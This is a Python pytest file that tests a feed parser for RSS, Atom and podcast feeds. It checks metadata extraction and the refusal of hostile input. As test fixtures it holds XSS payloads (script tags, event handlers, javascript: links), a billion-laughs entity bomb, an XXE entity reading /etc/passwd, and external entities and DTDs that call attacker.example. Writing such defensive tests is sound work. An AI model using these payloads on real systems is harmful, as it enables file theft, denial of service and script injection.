"""Feed bytes into items (plugins/rss/feed.py): real RSS, Atom, Apple Podcasts and Podcasting 2.0 payloads, hostile
HTML in descriptions, and XML attacks refused before feedparser ever sees the bytes."""

from __future__ import annotations

import io
import re
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import feedparser  # type: ignore[import-untyped]
import pytest

from plugins.rss import feed as feed_module
from plugins.rss.feed import (
    MAX_ITEMS,
    Feed,
    FeedError,
    FeedItem,
    Transcript,
    parse_duration,
    parse_feed,
)

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "feeds"


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def rss(items: str, *, channel: str = "", namespaces: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n<rss version="2.0"{namespaces}><channel><title>T</title>'
        f"<link>https://example.com/</link>{channel}{items}</channel></rss>"
    ).encode()


@pytest.fixture
def feedparser_calls(monkeypatch: pytest.MonkeyPatch) -> list[Any]:
    """What feedparser.parse was handed, call by call (it still parses)."""
    calls: list[Any] = []
    real = feedparser.parse

    def spy(source: Any, **kwargs: Any) -> Any:
        calls.append((source, kwargs))
        return real(source, **kwargs)

    monkeypatch.setattr(feedparser, "parse", spy)
    return calls


# --- Real-format feeds ---------------------------------------------------------------------------------------------


def test_rss2_feed() -> None:
    feed = parse_feed(fixture("rss2.xml"), url="https://news.example.org/feed.xml")

    assert isinstance(feed, Feed)
    assert feed.title == "Harbour Town News"
    assert feed.link == "https://news.example.org/"
    assert feed.image_url == "https://news.example.org/logo.png"
    assert [item.external_id for item in feed.items] == [
        "https://news.example.org/2024/01/ferry",
        "hn-2024-0002",
        "hn-2024-0003",
    ]

    ferry, wall, note = feed.items
    assert ferry.title == "Ferry timetable changes & new routes"
    assert ferry.link == "https://news.example.org/2024/01/ferry"
    assert ferry.published_at == datetime(2024, 1, 2, 9, 30, tzinfo=UTC)  # +0100 in the feed
    assert ferry.published_at is not None and ferry.published_at.utcoffset() is not None
    assert ferry.updated_at is None
    assert ferry.description_html == (
        "<p>The <strong>winter</strong> timetable starts on <em>Monday</em>.</p>"
        '<p>See <a href="https://news.example.org/timetables" rel="noopener noreferrer nofollow">all timetables</a>.</p>'
    )
    assert ferry.description_text == "The winter timetable starts on Monday.\nSee all timetables."
    assert (ferry.media_url, ferry.media_type, ferry.media_length) == (None, None, None)

    # content:encoded wins over description; the relative <link> is resolved against the feed URL
    assert wall.link == "https://news.example.org/2024/01/wall"
    assert wall.description_html == (
        "<p>Repairs begin <strong>next week</strong>.</p><ul><li>Phase one</li><li>Phase two</li></ul>"
    )
    assert wall.description_text == "Repairs begin next week.\nPhase one\nPhase two"

    # an unparsable date is None, not an exception; a non-permalink GUID never becomes the link
    assert note.published_at is None
    assert note.link is None
    assert note.description_html == "<p>No link, no date.</p>"


def test_plain_text_rss_description_keeps_its_paragraphs() -> None:
    body = rss(
        "<item><guid>p1</guid><title>P</title><description>First &amp; one.\n\nSecond\nline.</description></item>"
    )

    (item,) = parse_feed(body, url="https://example.com/feed").items

    assert item.description_html == "<p>First &amp; one.</p><p>Second<br>line.</p>"
    assert item.description_text == "First & one.\nSecond\nline."


def test_atom_feed() -> None:
    feed = parse_feed(fixture("atom.xml"), url="https://lab.example.com/atom.xml")

    assert feed.title == "Lab Notes"  # type="html" title, tags stripped
    assert feed.link == "https://lab.example.com/"
    assert feed.image_url == "https://lab.example.com/static/logo.svg"

    post, short = feed.items
    assert post.external_id == "tag:lab.example.com,2024:posts/noise-floor"
    assert post.title == "Measuring the noise floor"
    assert post.link == "https://lab.example.com/posts/noise-floor"
    assert post.published_at == datetime(2024, 2, 10, 4, 30, tzinfo=UTC)  # 23:30 -05:00 the day before
    assert post.updated_at == datetime(2024, 2, 10, 11, 0, tzinfo=UTC)
    assert post.description_html == "<p>The full <strong>post</strong> body.</p>"  # content over summary
    assert (post.media_url, post.media_type, post.media_length) == (
        "https://lab.example.com/audio/noise.ogg",
        "audio/ogg",
        123456,
    )

    assert short.external_id == "urn:uuid:1225c695-cfb8-4ebb-aaaa-80da344efa6a"
    assert short.link is None  # feedparser copies the urn: id into `link`; it is no URL
    assert short.updated_at == datetime(2024, 2, 8, 8, 0, tzinfo=UTC)
    assert short.published_at == short.updated_at  # only <updated>: the publication date falls back to it
    assert short.description_html == "<p>Escaped HTML summary</p>"  # <b> is not in the allowlist: text kept
    assert short.description_text == "Escaped HTML summary"


def test_rss1_rdf_feed() -> None:
    body = b"""<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
         xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://rdf.example.com/">
    <title>RDF Site</title><link>https://rdf.example.com/</link><description>d</description>
    <items><rdf:Seq><rdf:li rdf:resource="https://rdf.example.com/a"/></rdf:Seq></items>
  </channel>
  <item rdf:about="https://rdf.example.com/a">
    <title>First</title><link>https://rdf.example.com/a</link><dc:date>2024-03-01T10:00:00Z</dc:date>
  </item>
</rdf:RDF>"""

    feed = parse_feed(body, url="https://rdf.example.com/index.rdf")

    assert feed.title == "RDF Site"
    (item,) = feed.items
    assert item.title == "First"
    assert item.external_id == "https://rdf.example.com/a"
    assert item.link == "https://rdf.example.com/a"
    # dc:date is the item's only date: feedparser files it as "updated", and published_at falls back to it
    assert item.updated_at == item.published_at == datetime(2024, 3, 1, 10, 0, tzinfo=UTC)


def test_apple_podcast_feed() -> None:
    feed = parse_feed(fixture("itunes_podcast.xml"), url="https://deepsea.example.fm/feed")

    # the channel's itunes:image, although the RSS <image> comes after it (feedparser keeps only the last)
    assert feed.image_url == "https://deepsea.example.fm/artwork-3000.jpg"
    episode, trailer, bonus, notes = feed.items

    # the largest audio/video enclosure: not the (larger) JPEG, not the first or the middle MP3
    assert episode.media_url == "https://cdn.example.fm/ep12-high.m4a"
    assert episode.media_type == "audio/x-m4a"
    assert episode.media_length == 20_971_520
    assert episode.duration_seconds == 3723  # 01:02:03
    assert (episode.episode, episode.season) == (12, 2)
    assert episode.explicit is False  # "false" (feedparser itself turns it into None)
    assert episode.episode_type == "full"
    assert episode.image_url == "https://cdn.example.fm/ep12.jpg"
    assert episode.published_at == datetime(2024, 1, 5, 14, 0, tzinfo=UTC)

    # media:content beats a smaller enclosure; media:thumbnail is the image without itunes:image
    assert trailer.media_url == "https://cdn.example.fm/trailer-hd.mp4"
    assert (trailer.media_type, trailer.media_length) == ("video/mp4", 900_000)
    assert trailer.image_url == "https://cdn.example.fm/trailer-thumb.jpg"
    assert trailer.duration_seconds == 755  # 12:35
    assert trailer.episode_type == "trailer"  # "Trailer" in the feed
    assert trailer.explicit is True  # no item value: the channel's "true"
    assert (trailer.episode, trailer.season) == (None, 2)

    # typed application/octet-stream: the .mp3 name says audio; an empty length is unknown, not 0
    assert (bonus.media_url, bonus.media_type, bonus.media_length) == (
        "https://cdn.example.fm/bonus-1.mp3",
        "audio/mpeg",
        None,
    )
    assert bonus.duration_seconds == 754
    assert bonus.explicit is True  # "yes"
    assert bonus.episode is None  # "-1"
    assert bonus.episode_type == "bonus"

    # a PDF is no media; "about an hour" is no duration; an unknown episodeType is None
    assert (notes.media_url, notes.media_type, notes.media_length) == (None, None, None)
    assert notes.duration_seconds is None
    assert notes.explicit is False  # "clean"
    assert notes.episode_type is None


def test_podcasting20_chapters_and_transcripts() -> None:
    feed = parse_feed(fixture("podcasting20.xml"), url="https://openmic.example.net/feed.xml")
    third, second, first = feed.items

    assert third.chapters_url == "https://openmic.example.net/ep3/chapters.json"
    assert third.transcript_urls == (
        Transcript("https://openmic.example.net/ep3/transcript.vtt", "text/vtt", language="en", rel="captions"),
        Transcript("https://openmic.example.net/ep3/transcript.srt", "application/x-subrip"),  # was relative
        Transcript("https://openmic.example.net/ep3/transcript.html", "text/html", language="en"),
        # the javascript: one is gone
    )
    # no GUID: matched by position, and its external id falls back to the enclosure URL
    assert second.external_id == "https://openmic.example.net/media/ep2.mp3"
    assert second.chapters_url == "https://openmic.example.net/chapters/ep2.json"
    assert second.transcript_urls == ()
    assert first.chapters_url is None  # javascript:
    assert first.transcript_urls == ()


def test_relative_and_unsafe_enclosure_urls() -> None:
    items = "".join(
        f'<item><guid>e{n}</guid><title>E{n}</title><enclosure url="{url}" type="audio/mpeg" length="10"/></item>'
        for n, url in enumerate(
            [
                "/media/ep0.mp3",
                "ep1.mp3",
                "//cdn.example.net/ep2.mp3",
                "ftp://files.example.com/ep3.mp3",
                "javascript:alert(1)//.mp3",
                "file:///etc/passwd",
            ]
        )
    )

    feed = parse_feed(rss(items), url="https://podcast.example.com/shows/one/feed.xml")

    assert [item.media_url for item in feed.items] == [
        "https://podcast.example.com/media/ep0.mp3",
        "https://podcast.example.com/shows/one/ep1.mp3",
        "https://cdn.example.net/ep2.mp3",
        None,
        None,
        None,
    ]


def test_hostile_html_in_descriptions_is_removed() -> None:
    description = (
        '<p onclick="steal()">Hello <script>alert("x")</script><b>world</b>'
        '<img src="https://evil.example/x.png" onerror="alert(1)">'
        '<a href="javascript:alert(2)">click</a> <a href="JaVaScRiPt:alert(3)">again</a>'
        '<a href="data:text/html,&lt;script&gt;alert(4)&lt;/script&gt;">data</a>'
        '<a href="/about" target="_blank" style="x" onmouseover="alert(5)">about</a>'
        '<a href="mailto:host@example.com">mail</a></p>'
        '<iframe src="https://evil.example/"></iframe><style>p { color: red }</style>'
        "<blockquote>quoted <code>x &lt; y</code></blockquote>"
    )
    body = rss(
        f"<item><guid>x</guid><title>&lt;script&gt;alert(6)&lt;/script&gt;Safe title</title>"
        f"<description><![CDATA[{description}]]></description></item>"
    )

    (item,) = parse_feed(body, url="https://example.com/feed.xml").items

    lowered = item.description_html.lower()
    for banned in ("<script", "alert", "onerror", "onclick", "onmouseover", "javascript:", "data:", "<iframe", "<img"):
        assert banned not in lowered, banned
    for banned in ("style", "target", "color: red"):
        assert banned not in lowered, banned
    assert item.description_html == (
        "<p>Hello world"
        '<a rel="noopener noreferrer nofollow">click</a> <a rel="noopener noreferrer nofollow">again</a>'
        '<a rel="noopener noreferrer nofollow">data</a>'
        '<a href="https://example.com/about" rel="noopener noreferrer nofollow">about</a>'
        '<a href="mailto:host@example.com" rel="noopener noreferrer nofollow">mail</a></p>'
        "<blockquote>quoted <code>x &lt; y</code></blockquote>"
    )
    assert item.description_text == "Hello worldclick againdataaboutmail\nquoted x < y"
    assert item.title == "Safe title"


def test_long_titles_are_cut_and_missing_ones_named() -> None:
    body = rss(f"<item><guid>a</guid><title>{'word ' * 100}</title></item><item><guid>b</guid></item>")

    long, untitled = parse_feed(body, url="https://example.com/feed").items

    assert len(long.title) == 300
    assert long.title.endswith("\u2026")
    assert untitled.title == "Untitled"


# --- External ids and fingerprints -------------------------------------------------------------------------------

NO_GUIDS = rss(
    "<item><title>With media</title><enclosure url='/a.mp3' type='audio/mpeg' length='1'/>"
    "<link>https://example.com/a</link></item>"
    "<item><title>With link</title><link>https://example.com/b</link></item>"
    "<item><title>Bare</title><pubDate>Tue, 02 Jan 2024 10:00:00 GMT</pubDate></item>"
    "<item><title>Bare</title><pubDate>Wed, 03 Jan 2024 10:00:00 GMT</pubDate></item>"
    "<item><title>Bare, no date</title></item>"
)


def test_fallback_ids_are_stable_and_distinct() -> None:
    first = parse_feed(NO_GUIDS, url="https://example.com/feed.xml")
    second = parse_feed(NO_GUIDS, url="https://example.com/feed.xml")

    ids = [item.external_id for item in first.items]
    assert ids == [item.external_id for item in second.items]
    assert len(set(ids)) == len(ids) == 5
    assert ids[0] == "https://example.com/a.mp3"  # the media URL before the link
    assert ids[1] == "https://example.com/b"
    for hashed in ids[2:]:
        assert re.fullmatch(r"sha256:[0-9a-f]{64}", hashed)


def test_long_guids_are_hashed() -> None:
    guid = "x" * 400
    body = rss(f"<item><guid>{guid}</guid><title>Long</title></item>")

    (item,) = parse_feed(body, url="https://example.com/feed").items

    assert len(item.external_id) <= 255
    assert re.fullmatch(r"sha256:[0-9a-f]{64}", item.external_id)
    assert item.external_id == parse_feed(body, url="https://example.com/feed").items[0].external_id


def test_fingerprint_changes_with_the_item_and_only_then() -> None:
    before = parse_feed(fixture("itunes_podcast.xml"), url="https://deepsea.example.fm/feed")
    again = parse_feed(fixture("itunes_podcast.xml"), url="https://deepsea.example.fm/feed")
    changed = parse_feed(
        fixture("itunes_podcast.xml").replace(b"Hydrothermal vents", b"Hydrothermal vents (updated)"),
        url="https://deepsea.example.fm/feed",
    )

    assert [i.fingerprint() for i in before.items] == [i.fingerprint() for i in again.items]
    assert re.fullmatch(r"[0-9a-f]{64}", before.items[0].fingerprint())
    assert changed.items[0].external_id == before.items[0].external_id
    assert changed.items[0].title == "Hydrothermal vents (updated)"
    assert changed.items[0].fingerprint() != before.items[0].fingerprint()
    # the other items did not change
    assert [i.fingerprint() for i in changed.items[1:]] == [i.fingerprint() for i in before.items[1:]]
    assert len({i.fingerprint() for i in before.items}) == len(before.items)


def test_items_are_immutable() -> None:
    item = parse_feed(NO_GUIDS, url="https://example.com/feed").items[0]
    assert isinstance(item, FeedItem)
    with pytest.raises(AttributeError):
        item.title = "changed"  # type: ignore[misc]


# --- Refused: XML attacks, not feeds -----------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title><item><title>&lol9;</title></item></channel></rss>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>Leak</title>
<item><guid>1</guid><title>&xxe;</title><description>&xxe;</description></item></channel></rss>"""

XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<rss version="2.0"><channel><title>x</title></channel></rss>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://attacker.example/rss.dtd">
<rss version="2.0"><channel><title>x</title><item><guid>1</guid><title>x</title></item></channel></rss>"""


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        pytest.param(BILLION_LAUGHS, "declares XML entities ('lol')", id="billion-laughs"),
        pytest.param(XXE, "external XML entity ('xxe' -> file:///etc/passwd)", id="external-entity"),
        pytest.param(XXE_PARAMETER, "external XML entity ('remote'", id="external-parameter-entity"),
        pytest.param(EXTERNAL_DTD, "external DTD (http://attacker.example/rss.dtd)", id="external-dtd"),
    ],
)
def test_xml_attacks_are_refused_before_feedparser(content: bytes, reason: str, feedparser_calls: list[Any]) -> None:
    with pytest.raises(FeedError) as refused:
        parse_feed(content, url="https://example.com/feed.xml")

    assert reason in refused.value.reason
    assert str(refused.value) == refused.value.reason
    assert "refused" in refused.value.reason
    assert feedparser_calls == []


def test_external_entity_never_leaks_the_file() -> None:
    secret = Path("/etc/passwd").read_text(errors="replace").splitlines()[0] if Path("/etc/passwd").exists() else ""
    with pytest.raises(FeedError) as refused:
        parse_feed(XXE, url="https://example.com/feed.xml")

    message = str(refused.value)
    assert "root:" not in message
    assert not secret or secret not in message


def test_netscape_rss091_doctype_is_let_through() -> None:
    body = b"""<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
  "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old &amp; Gold</title><link>http://old.example.com/</link>
<description>d</description><language>en</language>
<item><title>Caf\xe9</title><link>http://old.example.com/1</link></item></channel></rss>"""

    feed = parse_feed(body, url="http://old.example.com/rss.xml")

    assert feed.title == "Old & Gold"
    assert [(item.title, item.external_id) for item in feed.items] == [("Caf\u00e9", "http://old.example.com/1")]


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        pytest.param(
            b'<?xml version="1.0"?><rss version="2.0"><channel><title>x</channel></rss>',
            "not well-formed XML (mismatched tag: line 1, column 59)",
            id="malformed",
        ),
        pytest.param(
            b"<rss><channel><title>Fish &amp chips</title></channel></rss>",
            "not well-formed XML",
            id="bare-ampersand",
        ),
        pytest.param(
            b"<!DOCTYPE html>\n<html><head><title>Home</title></head><body><p>Hi<br></body></html>",
            "HTML page, not a feed",
            id="html-page",
        ),
        pytest.param(
            b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title></head></html>',
            "HTML page, not a feed",
            id="xhtml-page",
        ),
        pytest.param(
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><circle r="1"/></svg>',
            "not a feed: its root element is <svg>",
            id="other-xml",
        ),
        pytest.param(b'{"items": []}', "not well-formed XML", id="json"),
        pytest.param(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not well-formed XML", id="binary"),
        pytest.param(b"", "the feed is empty", id="no-bytes"),
        pytest.param(b"  \n ", "the feed is empty", id="whitespace"),
        pytest.param(
            b'<?xml version="1.0" encoding="no-such-charset"?><rss/>',
            "declared encoding cannot be read (unknown encoding: no-such-charset)",
            id="unknown-encoding",
        ),
        pytest.param(
            b'<?xml version="1.0" encoding="utf-7"?><rss><channel><title>+ADw-script+AD4-</title></channel></rss>',
            "declared encoding cannot be read (multi-byte encodings are not supported)",
            id="utf-7",
        ),
        pytest.param(
            b'<?xml version="1.0" encoding="punycode"?><rss><channel><title>x</title></channel></rss>',
            "declared encoding cannot be read",
            id="punycode",
        ),
        pytest.param(
            b'<?xml version="1.0" encoding="Shift_JIS"?><rss><channel><title>\x82\xa0\xff</title></channel></rss>',
            "encoded as Shift_JIS, but its bytes are not valid Shift_JIS",
            id="bad-shift-jis",
        ),
    ],
)
def test_non_feeds_are_refused_with_a_reason(content: bytes, reason: str, feedparser_calls: list[Any]) -> None:
    with pytest.raises(FeedError) as refused:
        parse_feed(content, url="https://example.com/feed.xml")

    assert reason in refused.value.reason
    assert feedparser_calls == []


def test_text_is_not_bytes() -> None:
    with pytest.raises(TypeError):
        parse_feed("https://example.com/feed.xml", url="https://example.com/feed.xml")  # type: ignore[arg-type]


# --- What reaches feedparser -------------------------------------------------------------------------------------


def test_feedparser_gets_the_checked_bytes_as_a_stream(feedparser_calls: list[Any]) -> None:
    parse_feed(fixture("rss2.xml"), url="https://news.example.org/feed.xml")

    ((source, options),) = feedparser_calls
    assert isinstance(source, io.BytesIO)  # never a str (a URL is fetched) or bytes (a file path is opened)
    assert source.getvalue() == fixture("rss2.xml")
    assert options == {"sanitize_html": False, "resolve_relative_uris": False}


def test_legacy_multibyte_encodings_are_transcoded() -> None:
    text = (
        '<?xml version="1.0" encoding="Shift_JIS"?>\n<rss version="2.0"><channel><title>深海ラジオ</title>'
        "<item><guid>jp-1</guid><title>第一回：熱水噴出孔</title><description>こんにちは</description></item>"
        "</channel></rss>"
    )

    feed = parse_feed(text.encode("shift_jis"), url="https://jp.example.com/feed")

    assert feed.title == "深海ラジオ"
    assert [(item.title, item.description_text) for item in feed.items] == [("第一回：熱水噴出孔", "こんにちは")]


def test_bozo_without_entries_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    broken = feedparser.FeedParserDict(
        bozo=True, bozo_exception=ValueError("undefined entity"), entries=[], feed=feedparser.FeedParserDict()
    )
    monkeypatch.setattr(feedparser, "parse", lambda *args, **kwargs: broken)

    with pytest.raises(FeedError, match="the feed could not be read: undefined entity"):
        parse_feed(rss(""), url="https://example.com/feed")


def test_bozo_with_entries_is_kept(monkeypatch: pytest.MonkeyPatch) -> None:
    real = feedparser.parse

    def bozo(*args: Any, **kwargs: Any) -> Any:
        result = real(*args, **kwargs)
        result["bozo"] = True
        result["bozo_exception"] = ValueError("slightly broken")
        return result

    monkeypatch.setattr(feedparser, "parse", bozo)

    feed = parse_feed(fixture("rss2.xml"), url="https://news.example.org/feed.xml")
    assert len(feed.items) == 3


def test_empty_feed_is_fine() -> None:
    feed = parse_feed(rss(""), url="https://example.com/feed")

    assert feed == Feed(title="T", link="https://example.com/", image_url=None, items=())


def test_items_are_capped_keeping_the_first(monkeypatch: pytest.MonkeyPatch) -> None:
    assert MAX_ITEMS == 5_000
    monkeypatch.setattr(feed_module, "MAX_ITEMS", 3)
    body = rss("".join(f"<item><guid>g{n}</guid><title>{n}</title></item>" for n in range(7)))

    feed = parse_feed(body, url="https://example.com/feed")

    assert [item.external_id for item in feed.items] == ["g0", "g1", "g2"]


# --- itunes:duration ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "seconds"),
    [
        ("45", 45),
        ("3600", 3600),
        ("61.5", 61),
        ("12:34", 754),
        ("90:00", 5400),
        ("1:02:03", 3723),
        ("01:02:03", 3723),
        (" 00:00:07 ", 7),
        ("1:02:03.250", 3723),
        ("", None),
        ("abc", None),
        ("1:60", None),
        ("1:02:60", None),
        ("1:2:3:4", None),
        ("-5", None),
        (":30", None),
        ("1:xx", None),
        (None, None),
    ],
)
def test_parse_duration(value: str | None, seconds: int | None) -> None:
    assert parse_duration(value) == seconds
